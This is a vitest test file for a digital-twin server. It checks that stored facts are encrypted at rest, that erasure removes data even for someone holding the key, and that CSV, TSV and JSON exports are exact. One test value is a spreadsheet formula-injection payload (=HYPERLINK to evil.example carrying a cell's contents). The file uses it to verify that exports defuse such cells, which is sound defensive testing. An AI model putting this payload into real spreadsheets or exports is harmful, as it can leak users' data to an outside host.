import fs from 'node:fs';
import path from 'node:path';
import Database from 'better-sqlite3';
import { afterEach, beforeEach, expect, it } from 'vitest';
import { masterSource } from '../../../../servers/digital-twin/keys/master-source.ts';
import { createVault, storeIdOf } from '../../../../servers/digital-twin/keys/vault.ts';
import { filesBelow, filesHolding, type Person, saidOnDays, TestTwins } from '../../../fixtures/digital-twin/twins.ts';

const CANARY = 'Kanarienvogel-7731';
let twins: TestTwins;
let alice: Person;

beforeEach(async () => {
  twins = new TestTwins({ send: async () => ({ accepted: true, knowledgeId: 'kn_1' }) });
  alice = await twins.person('alice');
});
afterEach(() => twins.close());

const FACTS = [
  { kind: 'knowledge', content: `The ${CANARY} sings at dawn.`, domain: 'birds' },
  { kind: 'personal', content: `My ${CANARY} is called Tweety.` },
  { kind: 'event', topic: 'feeding', note: `${CANARY} fed` },
  { kind: 'preference', topic: 'seeds', value: `those that the ${CANARY} likes` },
];

/** What somebody with the key could read in the folder: every page of every store and its log, in clear. */
async function decrypted(): Promise<Buffer> {
  const settings = { passphrase: undefined, keyFile: twins.keyFile, usesKeychain: false };
  const vault = createVault(twins.dataDir, () => masterSource(settings, twins.dataDir));
  const pages: Buffer[] = [];
  for (const storeId of await vault.storeIds()) {
    const { key } = (await vault.find(storeId))!;
    const file = path.join(twins.dataDir, 'twins', `${storeId}.twin`);
    const copy = path.join(twins.folder, 'copy');
    for (const suffix of ['', '-wal']) if (fs.existsSync(file + suffix)) fs.copyFileSync(file + suffix, copy + suffix);
    const database = new Database(copy);
    database.pragma("cipher = 'sqlcipher'");
    database.pragma(`key = "x'${Buffer.from(key).toString('hex')}'"`);
    database.pragma('journal_mode = DELETE');
    database.pragma("rekey = ''");
    database.close();
    pages.push(fs.readFileSync(copy));
    fs.rmSync(copy);
  }
  await vault.close();
  return Buffer.concat(pages);
}

it('[T1] no word is in any file in clear, nor the key in the data folder', async () => {
  await alice.observe(...FACTS);
  const key = fs.readFileSync(twins.keyFile, 'utf8').trim();
  expect(fs.statSync(twins.keyFile).mode & 0o777).toBe(0o600);
  expect(filesHolding(twins.folder, CANARY)).toEqual([]);
  expect(filesHolding(twins.dataDir, key)).toEqual([]);
  for (const file of filesBelow(twins.dataDir)) {
    expect(fs.readFileSync(file).includes(Buffer.from(key, 'base64url')), file).toBe(false);
    expect(fs.statSync(file).mode & 0o077, file).toBe(0);
  }
  expect((await decrypted()).includes(CANARY), 'the same search finds it when the key is known').toBe(true);
});

it.each([
  ['text', { scope: 'text', text: CANARY.toLowerCase() }, 4],
  ['unused_since', { scope: 'unused_since', time: '2099-01-01T00:00:00Z' }, 4],
])(
  '[T7] what is erased by %s is in no page of the store and its log, even for who has the key',
  async (_, what, erased) => {
    await alice.observe(...FACTS, { kind: 'event', topic: 'feeding', note: 'nothing' });
    await alice.list('mini_rag_query', 'results', { query: CANARY });
    await alice.client.readResource({ uri: 'twin://profile' });
    expect((await decrypted()).includes(CANARY)).toBe(true);
    const { value } = await alice.call('twin_erase', { what, confirm: true });
    expect(value.erased).toBeGreaterThanOrEqual(erased);
    expect((await decrypted()).includes(CANARY)).toBe(false);
    expect(await alice.list('mini_rag_query', 'results', { query: CANARY, anonymization_required: false })).toEqual([]);
  },
);

it('[T7] erases single facts and topics, and nothing without being sure', async () => {
  const [first] = await alice.observe(...FACTS);
  const what = { scope: 'facts', fact_ids: [first?.fact_id] };
  expect((await alice.call('twin_erase', { what, confirm: false })).error).toContain('Nothing was erased');
  expect((await alice.call('twin_erase', { what, confirm: true })).value).toEqual({ erased: 1, twin_erased: false });
  const topic = { scope: 'topic', topic: 'Feeding' };
  expect((await alice.call('twin_erase', { what: topic, confirm: true })).value).toMatchObject({ erased: 1 });
});

it('[T7] a whole twin goes with its file and its key, and another one stays', async () => {
  const bob = await twins.person('bob');
  await bob.observe({ kind: 'knowledge', content: 'Bob keeps bees.' });
  await alice.observe(...FACTS);
  const file = path.join(twins.dataDir, 'twins', `${storeIdOf('alice')}.twin`);
  expect(fs.existsSync(file)).toBe(true);
  expect((await alice.call('twin_erase', { what: { scope: 'all' }, confirm: true })).value).toEqual({
    erased: 4,
    twin_erased: true,
  });
  expect(filesBelow(twins.dataDir).filter((name) => name.startsWith(file))).toEqual([]);
  expect((await decrypted()).includes(CANARY)).toBe(false);
  expect((await decrypted()).includes('bees')).toBe(true);
  expect((await alice.read('twin://profile')).profile).toBeNull();
  expect((await bob.read('twin://profile')).profile).toMatchObject({ facts: 1 });
});

interface File {
  name: string;
  rows: number;
  parts: number;
  text: string;
}

/** A reader of RFC 4180 that knows nothing of the writer. */
function parse(text: string, separator: string): string[][] {
  expect(text.charCodeAt(0)).toBe(0xfeff);
  const rows: string[][] = [[]];
  let cell = '';
  let isQuoted = false;
  const body = text.slice(1);
  for (let i = 0; i < body.length; i++) {
    const c = body[i]!;
    if (isQuoted && c === '"' && body[i + 1] === '"') cell += body[++i]!;
    else if (c === '"') isQuoted = !isQuoted;
    else if (!isQuoted && (c === separator || c === '\r')) {
      rows.at(-1)!.push(cell);
      cell = '';
      if (c === '\r') rows.push([]);
      if (c === '\r') i++;
    } else cell += c;
  }
  expect(isQuoted).toBe(false);
  return rows.slice(0, -1);
}

const NASTY = '=HYPERLINK("http://evil.example/?x="&A1,"click") , "quoted"\nsecond line\t👩‍🚀 שלום';

it.each([
  ['csv', ','],
  ['tsv', '\t'],
] as const)('[T7] a %s export opens in a spreadsheet: every cell as it was, no formula', async (format, separator) => {
  await alice.observe(
    ...FACTS,
    { kind: 'personal', content: NASTY },
    { kind: 'personal', content: '+1 and -1 and @home' },
  );
  const files = (await alice.call('twin_export', { format })).value.files as File[];
  expect(files.map(({ name }) => name)).toContain(`twin-facts.${format}`);
  const [names, ...rows] = parse(files.find(({ name }) => name.startsWith('twin-facts'))!.text, separator);
  const contents = rows.map((row) => row[names!.indexOf('content')]);
  expect(rows.every((row) => row.length === names!.length)).toBe(true);
  expect(contents).toEqual([
    FACTS[0]!.content,
    FACTS[1]!.content,
    FACTS[3]!.value,
    `'${NASTY}`,
    "'+1 and -1 and @home",
  ]);
  for (const cell of rows.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
});

it('[T7] the JSON export is complete and exact', async () => {
  await alice.observe(...saidOnDays(3, FACTS[0]!, Date.now()), ...FACTS.slice(1), { kind: 'personal', content: NASTY });
  await alice.call('twin_consent', { action: 'grant', purpose: 'knowledge_elevation' });
  await alice.call('twin_elevate');
  const files = (await alice.call('twin_export')).value.files as File[];
  const sections = new Map(files.map(({ name, text }) => [name, JSON.parse(text) as Record<string, unknown>[]]));
  expect(sections.get('twin-facts.json')).toMatchObject([
    { content: FACTS[0]!.content, hits: 3, kind: 'knowledge' },
    { content: FACTS[1]!.content },
    { topic: 'seeds', kind: 'preference' },
    { content: NASTY },
  ]);
  expect(sections.get('twin-events.json')).toMatchObject([{ topic: 'feeding', note: `${CANARY} fed` }]);
  expect(sections.get('twin-consents.json')).toMatchObject([{ purpose: 'knowledge_elevation', granted: true }]);
  expect(sections.get('twin-elevations.json')).toMatchObject([{ status: 'sent', knowledge_id: 'kn_1' }]);
});

it('[T7] a section with many rows comes in parts that hold all of it', async () => {
  const facts = Array.from({ length: 5_200 }, (_, n) => ({ kind: 'knowledge', content: `Fact number ${n}.` }));
  for (let at = 0; at < facts.length; at += 200) await alice.observe(...facts.slice(at, at + 200));
  const contents: unknown[] = [];
  for (let part = 1; ; part++) {
    const [file] = (await alice.call('twin_export', { section: 'facts', part })).value.files as File[];
    contents.push(...(JSON.parse(file!.text) as Record<string, unknown>[]).map(({ content }) => content));
    if (part === file!.parts) break;
  }
  expect(contents).toEqual(facts.map(({ content }) => content));
});
